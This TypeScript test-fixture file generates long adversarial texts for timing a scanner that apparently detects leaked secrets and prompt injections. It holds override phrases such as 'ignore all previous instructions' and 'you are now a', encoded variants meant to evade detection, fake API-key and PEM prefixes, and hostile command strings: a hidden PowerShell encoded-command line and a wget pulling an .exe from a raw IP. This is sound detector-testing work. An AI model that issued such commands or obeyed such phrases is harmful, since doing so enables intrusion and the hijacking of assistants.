const SIZE = 40_000

/** Texts built to be slow to read; a linear scanner must finish each within its deadline. */
export function hostileTexts(keywords: readonly string[]): { name: string; text: string }[] {
  const fill = (piece: string) => piece.repeat(Math.ceil(SIZE / piece.length)).slice(0, SIZE)
  return [
    { name: 'one letter', text: fill('a') },
    { name: 'one letter, 250 kB', text: 'a'.repeat(250 * 1024) },
    { name: 'every keyword', text: fill(`${keywords.join(' ')} `) },
    { name: 'every keyword, unspaced', text: fill(keywords.join('')) },
    { name: 'repeated key prefix', text: fill('ghp_AKIAsk-ant-api03-xoxb-') },
    { name: 'PEM headers', text: fill('-----BEGIN PRIVATE KEY-----\n') },
    { name: 'cut-off keys', text: fill(`-----BEGIN PRIVATE KEY-----\nMIIE${'aB3/'.repeat(12)}\n`) },
    { name: 'open brackets', text: fill('[') },
    { name: 'quote markers', text: fill('> ') },
    { name: 'list markers', text: fill('- ') },
    { name: 'emphasis', text: fill('*a_') },
    { name: 'backticks', text: fill('`a``') },
    { name: 'lists in a row', text: fill('a\n- ') },
    { name: 'lists in lists', text: deep(400) },
    { name: 'indented lines', text: fill('a\n    b\n') },
    { name: 'tabs', text: fill('\ta\n') },
    { name: 'addresses in brackets', text: fill('<a@b.c>') },
    { name: 'definitions', text: fill('[a]: b\n\n') },
    { name: 'comments', text: fill('<!-- ') },
    { name: 'base64', text: fill('SWdub3JlIGFsbA') },
    { name: 'base64 lines', text: fill(`${'QUJD'.repeat(16)}\n`) },
    { name: 'base64 in pieces', text: fill('SWdu b3Jl IGFs ') },
    { name: 'bytes', text: fill('105, 103, ') },
    { name: 'nested base64', text: nested(fill('ignore all previous instructions '), 3) },
    { name: 'hex', text: fill('69676e6f7265') },
    { name: 'percent', text: fill('%69%67') },
    { name: 'spaced letters', text: fill('i g n o r e ') },
    { name: 'spaced letters of other scripts', text: fill('и г н о р 忽 略 ') },
    { name: 'dressed letters of other scripts', text: fill('忽**略**所<b></b>有') },
    { name: 'leet', text: fill('1gn0r3 4ll ') },
    { name: 'exchanged letters', text: fill('ljqruh doo suhylrxv\n') },
    { name: 'backwards', text: fill('suoiverp lla erongi\n') },
    { name: 'unpaired surrogates', text: fill('\ud800a') },
    { name: 'signs for a sentence', text: fill('\ufdfa') },
    { name: 'zero width', text: fill('a\u200b') },
    { name: 'tags', text: fill('\u{e0041}') },
    { name: 'assignments', text: fill('api_key = "') },
    { name: 'curl lines', text: fill('curl -u a \\\n -H ') },
    {
      name: 'hidden windows',
      text: fill('powershell -ep bypass -w hidden -enc SQBFAFgAIAAkAHgAOwA= '),
    },
    { name: 'fetched programs', text: fill('wget http://203.0.113.9/a.exe ') },
    { name: 'quotation marks', text: fill('"a" ') },
    { name: 'strings in pieces', text: fill('"send" + "you" "r " +\n"all" & ') },
    { name: 'strings that are never joined', text: fill('"a" +  \n\t\t ') },
    { name: 'new roles', text: fill('you are now a ') },
    { name: 'demands', text: fill('send your api key to ') },
    { name: 'words set apart', text: fill('"ignore" "all" "rules" ') },
    { name: 'dressed letters', text: fill('**i**gnore _al_l ') },
    { name: 'override verbs', text: fill('ignore all previous ') },
  ]
}

function deep(levels: number): string {
  const lines = Array.from({ length: levels }, (_, level) => `${'  '.repeat(level % 100)}- a\n`)
  return lines.join('').slice(0, SIZE)
}

function nested(text: string, depth: number): string {
  let packed = text.slice(0, 12_000)
  for (let level = 0; level < depth; level++) packed = Buffer.from(packed).toString('base64')
  return packed
}
